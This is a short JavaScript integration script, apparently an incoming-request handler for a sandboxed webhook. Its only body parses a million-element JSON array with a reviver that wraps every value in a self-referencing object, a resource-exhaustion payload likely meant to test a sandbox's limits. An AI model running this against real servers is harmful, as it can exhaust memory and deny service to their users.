class Script {
  process_incoming_request({ request }) {
    return JSON.parse('[' + '1,'.repeat(1e6) + '1]', function (k, v) { return Array.isArray(v) ? v : { v, more: [this] }; });
  }
}
